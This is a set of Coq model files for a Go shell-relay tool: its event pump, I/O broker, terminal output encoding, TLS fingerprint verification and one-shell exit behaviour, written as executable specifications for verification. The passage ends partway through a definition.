    [pstep] is the code as it is.  [pstep_lazy] is a pump which gives up as soon
    as it finds nobody to tell - the tempting "optimisation" which Proofs/EventsProofs
    refutes. *)
From Coq Require Import List NArith Bool.
Import ListNotations.
Open Scope N_scope.

Inductive pop :=
| PEmit (e : N)        (* the broker announces something: evCh <- ev *)
| PProc                (* the pump takes the oldest event and tells everybody registered *)
| PAdd (l : N)         (* AddEventListener *)
| PRemove (l : N)      (* RemoveEventListener *)
| PStop.               (* Do's context is cancelled: the pump returns *)

Record pst := { p_run : bool; p_q : list N; p_ls : list N; p_got : list (N * N) (* (listener, event), in delivery order *) }.

Definition pinit : pst := {| p_run := true; p_q := []; p_ls := []; p_got := [] |}.

Definition add_l (l : N) (ls : list N) : list N := if existsb (N.eqb l) ls then ls else ls ++ [l].
Definition remove_l (l : N) (ls : list N) : list N := filter (fun x => negb (x =? l)) ls.

(** [cap]: capacity of the event channel; a full channel makes the announcer wait (no change until the pump has taken something). *)
Definition pstep (cap : nat) (s : pst) (o : pop) : pst :=
  match o with
  | PEmit e => if Nat.ltb (length (p_q s)) cap
               then {| p_run := p_run s; p_q := p_q s ++ [e]; p_ls := p_ls s; p_got := p_got s |} else s
  | PProc => match p_run s, p_q s with
             | true, e :: r => {| p_run := true; p_q := r; p_ls := p_ls s; p_got := p_got s ++ map (fun l => (l, e)) (p_ls s) |}
             | _, _ => s
             end
  | PAdd l => {| p_run := p_run s; p_q := p_q s; p_ls := add_l l (p_ls s); p_got := p_got s |}
  | PRemove l => {| p_run := p_run s; p_q := p_q s; p_ls := remove_l l (p_ls s); p_got := p_got s |}
  | PStop => {| p_run := false; p_q := p_q s; p_ls := p_ls s; p_got := p_got s |}
  end.

Definition prun (cap : nat) (s : pst) (ops : list pop) : pst := fold_left (pstep cap) ops s.

(** What listener [l] has received, in order. *)
Definition got_of (l : N) (s : pst) : list N := map snd (filter (fun p => fst p =? l) (p_got s)).

(** The specification, from one listener's point of view: nobody else exists. *)
Record sst := { s_run : bool; s_q : list N; s_reg : bool; s_got : list N }.
Definition sinit : sst := {| s_run := true; s_q := []; s_reg := false; s_got := [] |}.
Definition sstep (cap : nat) (l : N) (t : sst) (o : pop) : sst :=
  match o with
  | PEmit e => if Nat.ltb (length (s_q t)) cap
               then {| s_run := s_run t; s_q := s_q t ++ [e]; s_reg := s_reg t; s_got := s_got t |} else t
  | PProc => match s_run t, s_q t with
             | true, e :: r => {| s_run := true; s_q := r; s_reg := s_reg t; s_got := s_got t ++ (if s_reg t then [e] else []) |}
             | _, _ => t
             end
  | PAdd k => if k =? l then {| s_run := s_run t; s_q := s_q t; s_reg := true; s_got := s_got t |} else t
  | PRemove k => if k =? l then {| s_run := s_run t; s_q := s_q t; s_reg := false; s_got := s_got t |} else t
  | PStop => {| s_run := false; s_q := s_q t; s_reg := s_reg t; s_got := s_got t |}
  end.
Definition srun (cap : nat) (l : N) (t : sst) (ops : list pop) : sst := fold_left (sstep cap l) ops t.

(** The pump which stops when it finds nobody to tell. *)
Definition pstep_lazy (cap : nat) (s : pst) (o : pop) : pst :=
  match o with
  | PProc => match p_run s, p_q s, p_ls s with
             | true, _ :: _, [] => {| p_run := false; p_q := tl (p_q s); p_ls := []; p_got := p_got s |}
             | _, _, _ => pstep cap s o
             end
  | _ => pstep cap s o
  end.

(** The listener plans the harness runs: [n] shells unheard, then listener [k] registers, one shell, the listener leaves. *)
Definition shell_ops : list pop := [PEmit 0; PProc; PEmit 1; PProc].
Fixpoint plan_ops (k : N) (plan : list N) : list pop :=
  match plan with
  | [] => []
  | n :: r => concat (repeat shell_ops (N.to_nat n)) ++ [PAdd k] ++ shell_ops ++ [PRemove k] ++ plan_ops (k + 1) r
  end.
Definition plan_windows (cap : nat) (plan : list N) : list (list N) :=
  let s := prun cap pinit (plan_ops 0 plan) in
  map (fun k => got_of (N.of_nat k) s) (seq 0 (length plan)).
