(** Model of the last hop of shell output, /repo/lib/opshell/opshell.go
    (handleOutput -> writePlain): a Plain line is written to the terminal
    exactly as it is - no decoration, no re-encoding - unless output is muted
    (Ctrl+O, Model/Mute.v), in which case it is dropped. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

(** golang.org/x/term's Terminal.Write, which the Shell writes through, puts
    the terminal's line discipline back in: the terminal is in raw mode, so
    every LF is sent as CR LF (writeWithCRLF); nothing else is touched. *)
Fixpoint crlf (s : bytes) : bytes :=
  match s with
  | [] => []
  | c :: r => if c =? 10 then 13 :: 10 :: crlf r else c :: crlf r
  end.
(** what a raw-mode terminal's reader recovers *)
Fixpoint uncrlf (s : bytes) : bytes :=
  match s with
  | [] => []
  | c :: t => match t with
              | d :: r => if (c =? 13) && (d =? 10) then 10 :: uncrlf r else c :: uncrlf t
              | [] => [c]
              end
  end.

Definition write_plain (muted : bool) (line : bytes) : bytes := if muted then [] else crlf line.

(** what the terminal shows for a sequence of Plain lines while not muted *)
Definition shown (chunks : list bytes) : bytes := concat (map (write_plain false) chunks).

(** the broker's reader: cut a byte sequence into reads of the given sizes (0 = the rest) *)
Fixpoint cut (sizes : list nat) (s : bytes) : list bytes :=
  match sizes with
  | [] => [s]
  | n :: r => firstn n s :: cut r (skipn n s)
  end.
