(** Model of /repo/lib/simpleshell/simpleshell.go: TLSFingerprintVerifier and
    the decision [Go] takes for one connection.  SHA-256 and base64 are the
    executable definitions of Lib/; the TLS handshake and ordinary X.509
    validation are environment ([chain] = SubjectPublicKeyInfos of the
    certificates presented, [trusted] = ordinary validation would succeed). *)
From CRS Require Import Lib.Bytes Lib.Sha256 Lib.Base64.
Open Scope N_scope.

Definition prefix_str : bytes := txt "sha256//".
Definition trim_prefix (p l : bytes) : bytes := if bprefix p l then skipn (length p) l else l.
(** base64.StdEncoding.DecodeString ignores CR and LF. *)
Definition strip_crlf (l : bytes) : bytes := filter (fun c => negb ((c =? 13) || (c =? 10))) l.

Definition parse_fp (fp : bytes) : option bytes :=
  match b64dec (strip_crlf (trim_prefix prefix_str fp)) with
  | Some w => if Nat.eqb (length w) 32 then Some w else None
  | None => None
  end.

Definition verify (want : bytes) (chain : list bytes) : bool :=
  existsb (fun spki => beq (sha256 spki) want) chain.

Inductive outcome := Sent | RefusedBadFingerprint | RefusedNoMatch | RefusedValidation.

(** One call of Go: a function of this call's configuration and this
    connection's peer only — there is no process-wide state in the model
    because the code (after the fix) keeps none. *)
Definition go_call (fp : bytes) (chain : list bytes) (trusted : bool) : outcome :=
  match fp with
  | [] => if trusted then Sent else RefusedValidation
  | _ => match parse_fp fp with
         | None => RefusedBadFingerprint
         | Some want => if verify want chain then Sent else RefusedNoMatch
         end
  end.

(** A call may be led to several servers one after the other (the HTTP client
    follows redirects): every connection is a connection of this call and is
    decided by [go_call] on ITS peer.  [hops]: the servers in the order the
    client is sent to them, each with the chain it presents and whether
    ordinary validation would accept it.  A refusal ends the call. *)
Fixpoint go_hops (fp : bytes) (hops : list (list bytes * bool)) : list outcome :=
  match hops with
  | [] => []
  | (chain, trusted) :: r =>
      match go_call fp chain trusted with
      | Sent => Sent :: go_hops fp r
      | o => [o]
      end
  end.
Definition is_sent (o : outcome) : bool := match o with Sent => true | _ => false end.
(** which of the servers receive a request *)
Definition hops_hit (fp : bytes) (hops : list (list bytes * bool)) : list bool :=
  let out := map is_sent (go_hops fp hops) in out ++ repeat false (length hops - length out).
