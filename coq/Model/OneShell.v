(** Model of -one-shell: Server.watchIOBEvents (hsrv.go:312-351), what
    serveHTTP returns when the listener was closed on purpose, and how rmain
    maps the first error of its group to an exit status. *)
From CRS Require Import Lib.Bytes Model.Broker.
Open Scope N_scope.

Inductive wact := Announce | CloseListener | PrintHelp.

(** One broker event handled by the watcher. *)
Definition watch (one_shell : bool) (e : ev) : list wact :=
  match e with
  | EConn => if one_shell then [Announce; CloseListener] else []
  | EDisc => if one_shell then [] else [PrintHelp]
  end.

Definition closes (a : wact) : bool := match a with CloseListener => true | _ => false end.

(** The listener after a sequence of events: closed iff some handled event closed it. *)
Definition listener_open (one_shell : bool) (evs : list ev) : bool :=
  negb (existsb closes (flat_map (watch one_shell) evs)).

(** Events of a whole broker history, in order. *)
Definition events_of (ops : list op) : list ev := flat_map o_ev (snd (run ops)).

(** serveHTTP: a listener closed under -one-shell is the expected end. *)
Inductive serr := ErrOneShellClosed | ErrEOF | ErrCanceled | ErrOther.
Definition serve_result (one_shell listener_closed_by_us : bool) : serr :=
  if listener_closed_by_us && one_shell then ErrOneShellClosed else ErrOther.

(** rmain: the group's first error decides the exit status. *)
Definition exit_code (first : option serr) : N :=
  match first with
  | None | Some ErrEOF | Some ErrOneShellClosed => 0
  | Some _ => 1
  end.

(** The watcher as the translator (translator/watcher) reads it off the working
    tree: (event whose case the action stands in | "any", condition on
    s.oneShell: "one" | "notone" | "always" | "never", action).  [table_is_watch]
    says that such a table denotes exactly [watch]. *)
From Coq Require Import String.
Definition ev_name (e : ev) : string :=
  match e with EConn => "EventTypeConnected" | EDisc => "EventTypeDisconnected" end.
Definition act_of (s : string) : option wact :=
  if String.eqb s "Announce" then Some Announce else if String.eqb s "CloseListener" then Some CloseListener
  else if String.eqb s "PrintHelp" then Some PrintHelp else None.
Definition cond_holds (c : string) (one_shell : bool) : bool :=
  if String.eqb c "always" then true else if String.eqb c "one" then one_shell else if String.eqb c "notone" then negb one_shell else false.
Definition watch_of_table (tbl : list (string * string * string)) (one_shell : bool) (e : ev) : list (option wact) :=
  map (fun x => act_of (snd x))
      (filter (fun x => (String.eqb (fst (fst x)) (ev_name e) || String.eqb (fst (fst x)) "any") && cond_holds (snd (fst x)) one_shell) tbl).
Definition wact_eqb (a b : option wact) : bool :=
  match a, b with
  | Some Announce, Some Announce | Some CloseListener, Some CloseListener | Some PrintHelp, Some PrintHelp => true
  | _, _ => false
  end.
Fixpoint wacts_eqb (a b : list (option wact)) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => wact_eqb x y && wacts_eqb a' b'
  | _, _ => false
  end.
Definition table_is_watch (tbl : list (string * string * string)) : bool :=
  forallb (fun one => forallb (fun e => wacts_eqb (watch_of_table tbl one e) (map Some (watch one e))) [EConn; EDisc]) [true; false].
