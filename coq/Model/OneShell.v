(** Model of -one-shell: Server.watchIOBEvents (hsrv.go:312-351), what
    serveHTTP returns when the listener was closed on purpose, and how rmain
    maps the first error of its group to an exit status. *)
From CRS Require Import Lib.Bytes Model.Broker.
Open Scope N_scope.

Inductive wact := Announce | CloseListener | PrintHelp.

(** One broker event handled by the watcher. *)
Definition watch (one_shell : bool) (e : ev) : list wact :=
  match e with
  | EConn => if one_shell then [Announce; CloseListener] else []
  | EDisc => if one_shell then [] else [PrintHelp]
  end.

Definition closes (a : wact) : bool := match a with CloseListener => true | _ => false end.

(** The listener after a sequence of events: closed iff some handled event closed it. *)
Definition listener_open (one_shell : bool) (evs : list ev) : bool :=
  negb (existsb closes (flat_map (watch one_shell) evs)).

(** Events of a whole broker history, in order. *)
Definition events_of (ops : list op) : list ev := flat_map o_ev (snd (run ops)).

(** serveHTTP: a listener closed under -one-shell is the expected end. *)
Inductive serr := ErrOneShellClosed | ErrEOF | ErrCanceled | ErrOther.
Definition serve_result (one_shell listener_closed_by_us : bool) : serr :=
  if listener_closed_by_us && one_shell then ErrOneShellClosed else ErrOther.

(** rmain: the group's first error decides the exit status. *)
Definition exit_code (first : option serr) : N :=
  match first with
  | None | Some ErrEOF | Some ErrOneShellClosed => 0
  | Some _ => 1
  end.
