(** Fine-grained model of /repo/internal/iobroker/iobroker.go, proxyOut: the
    reader goroutine (Read, then queue the data, then queue the error, each
    send racing with cancellation), the internal queue of capacity 2 closed by
    the reader when it returns, the forwarding loop (receive, then hand the
    chunk to the operator channel and log it - racing with cancellation), and
    the operator channel of capacity [cap] drained by the operator's terminal
    at its own pace.  A run is ANY sequence of events (an event that is not
    enabled leaves the state unchanged): every interleaving, every relative
    speed of shell, broker and terminal, cancellation at any point. *)
From CRS Require Import Lib.Bytes.

Inductive item := IData (d : bytes) | IErr.
Inductive rphase := RLoop                        (* at the top of the loop / inside Read *)
                  | RData (d : bytes) (e : bool)  (* Read returned d (non-empty), with an error iff e: sending the data *)
                  | RErr                          (* sending the error *)
                  | RDone.                        (* returned; the queue is closed *)
Inductive fphase := FLoop                        (* at the outer select *)
                  | FHold (d : bytes)             (* holding a chunk: at the inner select *)
                  | FEndSelf                      (* left the loop because the stream's own error arrived *)
                  | FEndClosed                    (* ... because the queue was closed and empty *)
                  | FEndCancel.                   (* ... because the context was done *)

Record pst := {
  src : list (bytes * bool);   (* results of the Reads still to come *)
  rd : rphase;
  q : list item;
  fw : fphase;
  och : list bytes;            (* the operator channel *)
  shown : list bytes;          (* what the terminal has taken, in order *)
  logged : list bytes;         (* 'Shell I/O' output records *)
  cancelled : bool;
  readc : list bytes           (* ghost: the non-empty chunks Read has returned so far *)
}.

Definition pinit (reads : list (bytes * bool)) : pst :=
  {| src := reads; rd := RLoop; q := []; fw := FLoop; och := []; shown := []; logged := []; cancelled := false; readc := [] |}.

Inductive pev :=
| PRead            (* Read returns its next result (not after cancellation: the loop condition fails first) *)
| PReadCancelled   (* cancelled while at the loop top or blocked in Read: the reader returns *)
| PReadErrCancel   (* cancelled while blocked in Read: Read fails, the reader goes on to send that error *)
| PSendData | PSendErr
| PReaderQuit      (* a send loses the race against ctx.Done *)
| PRecv | PRecvClosed | PSelCancel
| PForward | PDrop
| PDrain | PCancel.

Definition qcap : nat := 2.
Definition is_nil {A} (l : list A) : bool := match l with [] => true | _ => false end.

Definition set_rd (s : pst) (r : rphase) (q' : list item) : pst :=
  {| src := src s; rd := r; q := q'; fw := fw s; och := och s; shown := shown s; logged := logged s; cancelled := cancelled s; readc := readc s |}.
Definition set_fw (s : pst) (f : fphase) (q' : list item) : pst :=
  {| src := src s; rd := rd s; q := q'; fw := f; och := och s; shown := shown s; logged := logged s; cancelled := cancelled s; readc := readc s |}.

Definition pnext (cap : nat) (s : pst) (e : pev) : pst :=
  match e with
  | PRead =>
      match rd s, cancelled s, src s with
      | RLoop, false, (d, er) :: rest =>
          {| src := rest; rd := (if is_nil d then (if er then RErr else RLoop) else RData d er); q := q s; fw := fw s; och := och s;
             shown := shown s; logged := logged s; cancelled := false; readc := (if is_nil d then readc s else readc s ++ [d]) |}
      | _, _, _ => s
      end
  | PReadCancelled => match rd s, cancelled s with RLoop, true => set_rd s RDone (q s) | _, _ => s end
  | PReadErrCancel => match rd s, cancelled s with RLoop, true => set_rd s RErr (q s) | _, _ => s end
  | PSendData =>
      match rd s with
      | RData d er => if Nat.ltb (length (q s)) qcap then set_rd s (if er then RErr else RLoop) (q s ++ [IData d]) else s
      | _ => s
      end
  | PSendErr =>
      match rd s with
      | RErr => if Nat.ltb (length (q s)) qcap then set_rd s RDone (q s ++ [IErr]) else s
      | _ => s
      end
  | PReaderQuit =>
      match rd s, cancelled s with
      | RData _ _, true | RErr, true => set_rd s RDone (q s)
      | _, _ => s
      end
  | PRecv =>
      match fw s, q s with
      | FLoop, IData d :: r => set_fw s (FHold d) r
      | FLoop, IErr :: r => set_fw s FEndSelf r
      | _, _ => s
      end
  | PRecvClosed =>
      match fw s, q s, rd s with
      | FLoop, [], RDone => set_fw s FEndClosed []
      | _, _, _ => s
      end
  | PSelCancel => match fw s, cancelled s with FLoop, true => set_fw s FEndCancel (q s) | _, _ => s end
  | PForward =>
      match fw s with
      | FHold d =>
          if Nat.ltb (length (och s)) cap then
            {| src := src s; rd := rd s; q := q s; fw := (if cancelled s then FEndCancel else FLoop); och := och s ++ [d];
               shown := shown s; logged := logged s ++ [d]; cancelled := cancelled s; readc := readc s |}
          else s
      | _ => s
      end
  | PDrop => match fw s, cancelled s with FHold _, true => set_fw s FEndCancel (q s) | _, _ => s end
  | PDrain =>
      match och s with
      | d :: r => {| src := src s; rd := rd s; q := q s; fw := fw s; och := r; shown := shown s ++ [d]; logged := logged s;
                     cancelled := cancelled s; readc := readc s |}
      | [] => s
      end
  | PCancel => {| src := src s; rd := rd s; q := q s; fw := fw s; och := och s; shown := shown s; logged := logged s;
                  cancelled := true; readc := readc s |}
  end.

Definition prun (cap : nat) (s : pst) (es : list pev) : pst := fold_left (pnext cap) es s.

(** The chunks still on their way inside the broker. *)
Definition qdata (l : list item) : list bytes := flat_map (fun i => match i with IData d => [d] | IErr => [] end) l.
Definition rhold (r : rphase) : list bytes := match r with RData d _ => [d] | _ => [] end.
Definition fhold (f : fphase) : list bytes := match f with FHold d => [d] | _ => [] end.
Definition fw_done (f : fphase) : bool := match f with FEndSelf | FEndClosed | FEndCancel => true | _ => false end.

(** The reader before the repair (fix: a7c6715): the error was queued with a
    plain send, so cancellation could not interrupt it. *)
Definition pnext_old (cap : nat) (s : pst) (e : pev) : pst :=
  match e, rd s with
  | PReaderQuit, RErr => s
  | _, _ => pnext cap s e
  end.
(** some event changes the reader's phase *)
Definition reader_can_move (next : pst -> pev -> pst) (s : pst) : bool :=
  existsb (fun e => match rd (next s e), rd s with
                    | RDone, RDone => false | RDone, _ => true
                    | RLoop, RLoop => false | RLoop, _ => true
                    | RErr, RErr => false | RErr, _ => true
                    | RData _ _, RData _ _ => false | RData _ _, _ => true end)
          [PRead; PReadCancelled; PReadErrCancel; PSendData; PSendErr; PReaderQuit].
