(** Executable model of /repo/internal/iobroker/iobroker.go: the admission
    and release sections of [Broker.connect] (everything under [b.mu] is one
    atomic step), the two proxy loops at the granularity "one line delivered"
    / "one read forwarded", and [Do]'s shutdown bookkeeping.

    One operation of the model = one gate opening / one stimulus of the
    harness (harness/overlay/iobroker), after which the real broker is run
    to quiescence; the observations of that step are what [step] returns. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Inductive dir := DIn | DOut.
Inductive key := KUni (id : bytes) | KBi (req : N).
Inductive wkind := WPlain | WFlusher | WFlushErr | WBoth.

Definition dir_eqb (a b : dir) : bool :=
  match a, b with DIn, DIn | DOut, DOut => true | _, _ => false end.

(** Byte equality is what [subtle.ConstantTimeCompare] decides; a
    bidirectional key (random 1024-byte sentinel + counter) never equals a
    client-supplied ID (assumption, DESIGN section 7). *)
Definition key_eqb (a b : key) : bool :=
  match a, b with
  | KUni x, KUni y => beq x y
  | KBi r, KBi r' => r =? r'
  | _, _ => false
  end.
Definition key_missing (k : key) : bool := match k with KUni [] => true | _ => false end.
Definition is_bidir (k : key) : bool := match k with KBi _ => true | _ => false end.

(** One Connect* call. *)
Record sdesc := {
  sd_dir : dir;
  sd_key : key;
  sd_addr : N;                 (* address tag shown in notices: the stream id, or the request's for /io halves *)
  sd_wk : wkind;               (* input streams: kind of writer *)
  sd_wfail : option N;         (* index of the Write that fails *)
  sd_ffail : option N          (* index of the flush that fails *)
}.

Inductive phase :=
| PParked                      (* /io half created, not yet through the admission section *)
| PAttached                    (* proxy running *)
| PEnded (err : bool)          (* proxy returned; waiting to re-lock *)
| PDone.                       (* connect returned *)

Record stream := { st_id : N; st_d : sdesc; st_ph : phase; st_nw : N; st_nf : N }.

Record bst := {
  bkey : option key;           (* Broker.key; None = "" *)
  cin : option (N * sdesc);    (* cancelIn <> nil: the stream (id and descriptor) that owns it *)
  cout : option (N * sdesc);
  nomore : bool;
  ich_closed : bool;
  queue : list bytes;          (* lines in ich *)
  streams : list stream;
  cancelled : list N           (* streams whose cancel function has been invoked by a peer's release *)
}.

Definition init : bst :=
  {| bkey := None; cin := None; cout := None; nomore := false; ich_closed := false;
     queue := []; streams := []; cancelled := [] |}.

(** ** Observations *)
Inductive ncls := NConnected | NReady | NRefused | NClosed | NGone.
Inductive ochobs := ONote (c : ncls) (who : N) | OPlain (data : bytes).
Inductive lcls := LNew | LDisc (err : bool) | LIO (data : bytes)
                | LKeyMissing | LTeardown | LDup | LBadKey.
Inductive lrec := Log (c : lcls) (s : N).
Inductive ev := EConn | EDisc.
Inductive wev := WWrite (s : N) (d : bytes) | WWriteFail (s : N) (d : bytes)
               | WFlush (s : N) (errform : bool) | WFlushFail (s : N) (errform : bool).

Record sobs := {
  o_och : list ochobs; o_log : list lrec; o_ev : list ev; o_w : list wev;
  o_att : list N; o_ret : list N; o_do : bool
}.
Definition no_obs : sobs :=
  {| o_och := []; o_log := []; o_ev := []; o_w := []; o_att := []; o_ret := []; o_do := false |}.
Definition obs_app (a b : sobs) : sobs :=
  {| o_och := o_och a ++ o_och b; o_log := o_log a ++ o_log b; o_ev := o_ev a ++ o_ev b;
     o_w := o_w a ++ o_w b; o_att := o_att a ++ o_att b; o_ret := o_ret a ++ o_ret b;
     o_do := o_do b |}.

(** ** State helpers *)
Definition get (s : bst) (id : N) : option stream :=
  find (fun x => st_id x =? id) (streams s).
Definition upd (s : bst) (x : stream) : bst :=
  {| bkey := bkey s; cin := cin s; cout := cout s; nomore := nomore s; ich_closed := ich_closed s;
     queue := queue s;
     streams := map (fun y => if st_id y =? st_id x then x else y) (streams s);
     cancelled := cancelled s |}.
Definition set_phase (x : stream) (p : phase) : stream :=
  {| st_id := st_id x; st_d := st_d x; st_ph := p; st_nw := st_nw x; st_nf := st_nf x |}.
Definition slot (s : bst) (d : dir) : option (N * sdesc) := match d with DIn => cin s | DOut => cout s end.
Definition other (d : dir) : dir := match d with DIn => DOut | DOut => DIn end.
Definition set_slot (s : bst) (d : dir) (v : option (N * sdesc)) : bst :=
  {| bkey := bkey s; cin := (match d with DIn => v | DOut => cin s end);
     cout := (match d with DOut => v | DIn => cout s end);
     nomore := nomore s; ich_closed := ich_closed s; queue := queue s;
     streams := streams s; cancelled := cancelled s |}.
Definition set_key (s : bst) (k : option key) : bst :=
  {| bkey := k; cin := cin s; cout := cout s; nomore := nomore s; ich_closed := ich_closed s;
     queue := queue s; streams := streams s; cancelled := cancelled s |}.
Definition set_queue (s : bst) (q : list bytes) : bst :=
  {| bkey := bkey s; cin := cin s; cout := cout s; nomore := nomore s; ich_closed := ich_closed s;
     queue := q; streams := streams s; cancelled := cancelled s |}.
Definition opt_eqb (a : option N) (b : N) : bool := match a with Some x => x =? b | None => false end.

(** [Do] may return: shut down and no connect call between wg.Add and wg.Done. *)
Definition busy (x : stream) : bool :=
  match st_ph x with PAttached | PEnded _ => true | _ => false end.
Definition do_done (s : bst) : bool := nomore s && negb (existsb busy (streams s)).
Definition with_do (s : bst) (o : sobs) : bst * sobs :=
  (s, {| o_och := o_och o; o_log := o_log o; o_ev := o_ev o; o_w := o_w o;
         o_att := o_att o; o_ret := o_ret o; o_do := do_done s |}).

(** Events are fanned out only while [Do]'s context lives. *)
Definition evs (s : bst) (l : list ev) : list ev := if nomore s then [] else l.

(** ** The proxy of a stream returns: closure log and notice (iobroker.go:309-322). *)
Definition finish (s : bst) (x : stream) (err : bool) : bst * sobs :=
  let bidir := is_bidir (sd_key (st_d x)) in
  (upd s (set_phase x (PEnded err)),
   {| o_och := (if negb bidir || err then [ONote NClosed (st_id x)] else []);
      o_log := [Log (LDisc err) (st_id x)]; o_ev := []; o_w := []; o_att := []; o_ret := []; o_do := false |}).

(** ** proxyIn: deliver queued lines to the attached input stream. *)
Definition optN_eqb (a : option N) (b : N) : bool := match a with Some x => x =? b | None => false end.

Fixpoint deliver (fuel : nat) (s : bst) (x : stream) : bst * sobs :=
  match fuel with
  | O => (upd s x, no_obs)
  | S f =>
      match queue s with
      | [] => (upd s x, no_obs)
      | l :: q =>
          let s1 := set_queue s q in
          let d := l ++ [10] in
          let x1 := {| st_id := st_id x; st_d := st_d x; st_ph := st_ph x; st_nw := st_nw x + 1; st_nf := st_nf x |} in
          if optN_eqb (sd_wfail (st_d x)) (st_nw x) then
            let '(s2, o) := finish (upd s1 x1) x1 true in
            (s2, obs_app {| o_och := []; o_log := []; o_ev := []; o_w := [WWriteFail (st_id x) d];
                            o_att := []; o_ret := []; o_do := false |} o)
          else
            let wr := [WWrite (st_id x) d] in
            match sd_wk (st_d x) with
            | WPlain =>
                let '(s2, o) := deliver f s1 x1 in
                (s2, obs_app {| o_och := []; o_log := [Log (LIO d) (st_id x)]; o_ev := []; o_w := wr;
                                o_att := []; o_ret := []; o_do := false |} o)
            | wk =>
                let errform := match wk with WFlusher => false | _ => true end in
                let x2 := {| st_id := st_id x1; st_d := st_d x1; st_ph := st_ph x1; st_nw := st_nw x1; st_nf := st_nf x1 + 1 |} in
                let ffails := optN_eqb (sd_ffail (st_d x)) (st_nf x) in
                if ffails && errform then
                  let '(s2, o) := finish (upd s1 x2) x2 true in
                  (s2, obs_app {| o_och := []; o_log := []; o_ev := [];
                                  o_w := wr ++ [WFlushFail (st_id x) true];
                                  o_att := []; o_ret := []; o_do := false |} o)
                else
                  let fl := if ffails then WFlushFail (st_id x) false else WFlush (st_id x) errform in
                  let '(s2, o) := deliver f s1 x2 in
                  (s2, obs_app {| o_och := []; o_log := [Log (LIO d) (st_id x)]; o_ev := [];
                                  o_w := wr ++ [fl]; o_att := []; o_ret := []; o_do := false |} o)
            end
      end
  end.

(** Run the input proxy of [id] as far as it goes now. *)
Definition pump_in (s : bst) (id : N) : bst * sobs :=
  match get s id with
  | Some x =>
      match st_ph x with
      | PAttached =>
          let '(s1, o1) := deliver (S (length (queue s))) s x in
          match get s1 id with
          | Some x1 =>
              match st_ph x1, queue s1, ich_closed s1 with
              | PAttached, [], true => let '(s2, o2) := finish s1 x1 false in (s2, obs_app o1 o2)
              | _, _, _ => (s1, o1)
              end
          | None => (s1, o1)
          end
      | _ => (s, no_obs)
      end
  | None => (s, no_obs)
  end.

(** ** The admission section (iobroker.go:185-306). *)
Definition refuse (s : bst) (x : stream) (l : lcls) : bst * sobs :=
  (upd s (set_phase x PDone),
   {| o_och := [ONote NRefused (st_id x)]; o_log := [Log l (st_id x)]; o_ev := []; o_w := [];
      o_att := []; o_ret := [st_id x]; o_do := false |}).

Definition admission (s : bst) (x : stream) : bst * sobs :=
  let d := sd_dir (st_d x) in
  let k := sd_key (st_d x) in
  if nomore s then
    (upd s (set_phase x PDone),
     {| o_och := []; o_log := []; o_ev := []; o_w := []; o_att := []; o_ret := [st_id x]; o_do := false |})
  else if key_missing k then refuse s x LKeyMissing
  else if (match bkey s with None => true | _ => false end) &&
          (match cin s, cout s with None, None => false | _, _ => true end)
       then refuse s x LTeardown
  else if (match slot s d with Some _ => true | None => false end) then refuse s x LDup
  else if (match bkey s with Some k' => negb (key_eqb k k') | None => false end) then refuse s x LBadKey
  else
    let both := match slot s (other d) with Some _ => true | None => false end in
    let s1 := set_key (set_slot (upd s (set_phase x PAttached)) d (Some (st_id x, st_d x))) (Some k) in
    let o := {| o_och := (if is_bidir k then [] else [ONote NConnected (st_id x)]) ++
                         (if both then [ONote NReady (sd_addr (st_d x))] else []);
                o_log := [Log LNew (st_id x)];
                o_ev := (if both then evs s [EConn] else []);
                o_w := []; o_att := [st_id x]; o_ret := []; o_do := false |} in
    match d with
    | DIn => let '(s2, o2) := pump_in s1 (st_id x) in (s2, obs_app o o2)
    | DOut => (s1, o)
    end.

(** ** The release section (iobroker.go:326-338). *)
Definition release (s : bst) (x : stream) : bst * sobs :=
  let d := sd_dir (st_d x) in
  let s1 := set_slot (set_key (upd s (set_phase x PDone)) None) d None in
  match slot s1 (other d) with
  | Some (p, _) =>
      (* go f(): the peer's context is cancelled; if its proxy still runs it returns nil *)
      let s2 := {| bkey := bkey s1; cin := cin s1; cout := cout s1; nomore := nomore s1;
                   ich_closed := ich_closed s1; queue := queue s1; streams := streams s1;
                   cancelled := p :: cancelled s1 |} in
      let base := {| o_och := []; o_log := []; o_ev := []; o_w := []; o_att := [];
                     o_ret := [st_id x]; o_do := false |} in
      match get s2 p with
      | Some px => match st_ph px with
                   | PAttached => let '(s3, o) := finish s2 px false in (s3, obs_app base o)
                   | _ => (s2, base)
                   end
      | None => (s2, base)
      end
  | None =>
      (s1, {| o_och := [ONote NGone (sd_addr (st_d x))]; o_log := []; o_ev := evs s [EDisc]; o_w := [];
              o_att := []; o_ret := [st_id x]; o_do := false |})
  end.

(** ** Operations *)
Inductive rerr := REof | RUnexpectedEof | RClosedPipe | ROther.
Inductive op :=
| OAdmit (id : N) (d : sdesc)                 (* unidirectional attempt through the admission section *)
| OIoReq (si so : N) (di do_ : sdesc)         (* /io request arrives: both halves wait for admission *)
| OGo (id : N)                                (* one waiting half goes through the admission section *)
| OLine (l : bytes)                           (* the operator enters a line *)
| OCloseIch
| OData (id : N) (data : bytes) (e : option rerr)  (* one Read of the output stream returns (data, err) *)
| OCancel (id : N)                            (* the client's request context ends *)
| ORelease (id : N)                           (* an ended stream runs the release section *)
| OShutdown
| ODrain (n : N)
| OWGate (id : N)                             (* harness: block / unblock the stream's writer inside Write (race set-up; monitor-only cases) *)
| ORace (id : N) (l : bytes).                 (* the client's context ends at the very moment a line is entered: Go's select may
                                                 serve either first; both outcomes are acceptable, so such cases are judged by the
                                                 monitor only and the model does not predict them *)                             (* the operator's terminal takes n items (stalled-terminal cases only; not modelled) *)

Definition add_stream (s : bst) (id : N) (d : sdesc) (p : phase) : bst :=
  {| bkey := bkey s; cin := cin s; cout := cout s; nomore := nomore s; ich_closed := ich_closed s;
     queue := queue s;
     streams := streams s ++ [{| st_id := id; st_d := d; st_ph := p; st_nw := 0; st_nf := 0 |}];
     cancelled := cancelled s |}.

Definition cancel_one (s : bst) (id : N) : bst * sobs :=
  match get s id with
  | Some x => match st_ph x with
              | PAttached => finish s x false
              | _ => (s, no_obs)
              end
  | None => (s, no_obs)
  end.

(** Streams sharing a request context (the two halves of one /io request). *)
Definition ctx_mates (s : bst) (id : N) : list N :=
  match get s id with
  | Some x =>
      match sd_key (st_d x) with
      | KBi r => map st_id (filter (fun y => match sd_key (st_d y) with KBi r' => r =? r' | _ => false end) (streams s))
      | _ => [id]
      end
  | None => []
  end.

Definition step (s : bst) (o : op) : bst * sobs :=
